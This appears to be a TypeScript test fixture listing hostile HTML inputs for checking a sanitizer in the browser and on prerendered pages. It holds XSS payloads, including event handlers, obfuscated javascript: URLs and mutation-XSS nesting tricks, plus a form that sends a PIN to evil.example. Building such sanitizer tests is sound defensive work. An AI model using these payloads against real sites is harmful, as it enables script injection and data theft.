import { content } from '#operator';
/** HTML that tries to run something once it is sanitized, parsed or parsed again; for the sanitizer in the browser and the one of the prerendered pages. */
export const HOSTILE_HTML: readonly string[] = [
  '<p>before</p><script>window.pwned=1</script><p>after</p>',
  '<img src="/a.png" onerror="window.pwned=1"><p onclick="window.pwned=1" style="position:fixed" class="x" id="root" name="y">text</p>',
  '<a href="javascript:window.pwned=1">one</a><a href="JaVa&#115;cript:pwned">two</a><a href="java&#10;script:pwned">three</a><a href="/news" title="a > b style=">four</a>',
  '<style>*{display:none}</style><link rel="stylesheet" href="https://evil.example/"><base href="https://evil.example/"><p>text</p>',
  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="https://video.${content.domain}/a" width="16" height="9"></iframe>`,
  '<svg><style><img src=x onerror=window.pwned=1></style></svg><svg onload=window.pwned=1><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src=x>">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  '<template><script>window.pwned=1</script></template><textarea></textarea><img src=x onerror=window.pwned=1></textarea><xmp><img src=x onerror=window.pwned=1></xmp>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  '<form action="https://evil.example/"><input name="pin"><button>send</button></form><p>say style="color:red" &lt;script&gt;</p>',
  '</div></main></body><li>outside?<table><tr><td>cell<td><a href="//evil.example/">five</a><h1>heading</h1></table><b><p>torn</b></p>',
];
